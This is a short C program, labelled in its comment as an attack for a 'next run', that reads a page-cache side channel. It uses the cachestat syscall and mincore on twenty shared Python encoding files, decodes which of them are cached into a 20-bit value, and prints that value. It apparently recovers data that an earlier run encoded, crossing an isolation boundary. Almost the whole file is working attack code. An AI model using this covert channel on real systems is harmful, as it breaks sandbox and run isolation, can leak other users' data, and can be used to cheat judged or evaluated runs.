// Attack on stdin_stdout (next run): counts the cached pages of shared files by cachestat and mincore.
#define _GNU_SOURCE
#include <fcntl.h>
#include <glob.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
  glob_t found;
  if (glob("/usr/lib/python3.11/encodings/cp*.py", 0, 0, &found) != 0) return 1;
  long cached_bits = 0, resident_bits = 0;
  for (int i = 0; i < 20; ++i) {
    int fd = open(found.gl_pathv[i], O_RDONLY);
    unsigned long range[2] = {0, 4096}, counts[5] = {0};
    if (syscall(451, fd, range, counts, 0) == 0 && counts[0] > 0) cached_bits |= 1L << i;
    void* page = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
    unsigned char resident = 0;
    if (mincore(page, 4096, &resident) == 0 && (resident & 1)) resident_bits |= 1L << i;
  }
  const long all = (1L << 20) - 1;
  printf("%ld\n", cached_bits != 0 && cached_bits != all ? cached_bits : resident_bits);
  return 0;
}
